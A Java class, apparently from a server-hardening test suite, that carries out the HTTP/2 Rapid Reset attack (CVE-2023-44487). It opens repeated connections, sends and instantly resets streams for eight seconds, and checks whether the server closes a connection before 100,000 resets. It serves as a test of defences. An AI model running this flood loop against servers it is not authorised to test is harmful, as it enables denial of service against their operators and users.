package dev.longrun.tools.attack;

import java.io.IOException;

/** Requests that are given up as soon as they are sent (CVE-2023-44487). */
final class RapidReset implements Attack {
  private static final int SECONDS = 8;

  /** Of one connection; more than the sockets hold before the server has read any of it. */
  private static final int MOST_RESETS = 100_000;

  @Override
  public String name() {
    return "14 HTTP/2: requests that are reset at once";
  }

  @Override
  public void run(Site site, Notes notes) throws IOException {
    long end = System.nanoTime() + SECONDS * 1_000_000_000L;
    int connections = 0;
    int most = 0;
    long all = 0;
    while (System.nanoTime() < end) {
      int resets = reset(site, end);
      connections++;
      most = Math.max(most, resets);
      all += resets;
    }
    notes.add(all + " requests reset over " + connections + " connections, one after the other");
    notes.check(most < MOST_RESETS, "a connection ends after " + most + " resets at most");
  }

  private static int reset(Site site, long end) throws IOException {
    try (Http2 connection = new Http2(site.wire())) {
      int resets = 0;
      for (int stream = 1; System.nanoTime() < end; stream += 2) {
        if (!connection.send(Http2.get(stream, Site.OPERATIONS), Http2.reset(stream))) {
          return resets;
        }
        resets++;
      }
      return resets;
    }
  }
}
